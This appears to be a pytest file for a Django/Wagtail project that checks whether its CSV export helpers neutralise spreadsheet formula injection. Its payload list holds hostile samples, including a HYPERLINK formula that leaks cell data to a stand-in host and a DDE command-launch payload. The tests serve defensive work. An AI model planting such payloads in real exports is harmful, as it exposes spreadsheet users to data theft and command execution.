"""CSV injection: formulas from untrusted text never reach a spreadsheet as formulas."""

import csv
import io

import pytest

from lantoa.core.exports import SafeCsvWriter, safe_cell, safe_row
from lantoa.core.models import Unit, User

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1, "Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Đồng bào", "", "1=1", "a@b.vn", 42, -7, None, "-12", "+84,5"])
def test_ordinary_values_and_numbers_are_untouched(value):
    assert safe_cell(value) == value


def test_rows_and_writer():
    assert safe_row({"a": "=1", "b": 2}) == {"a": "'=1", "b": 2}
    stream = io.StringIO()
    SafeCsvWriter(stream).writerows([["=1+1", "ok"]])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'=1+1", "ok"]


@pytest.mark.django_db
def test_wagtail_viewset_csv_export_is_neutralised(demo_ward, client):
    unit = Unit.objects.get(code="mttq")
    unit.name = PAYLOADS[0]
    unit.save()
    client.force_login(User.objects.get(username="admin"))
    response = client.get("/admin/snippets/core/unit/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    names = [row[1] for row in rows[1:]]
    assert "'" + PAYLOADS[0] in names
    assert not any(cell.startswith("=") for row in rows for cell in row)
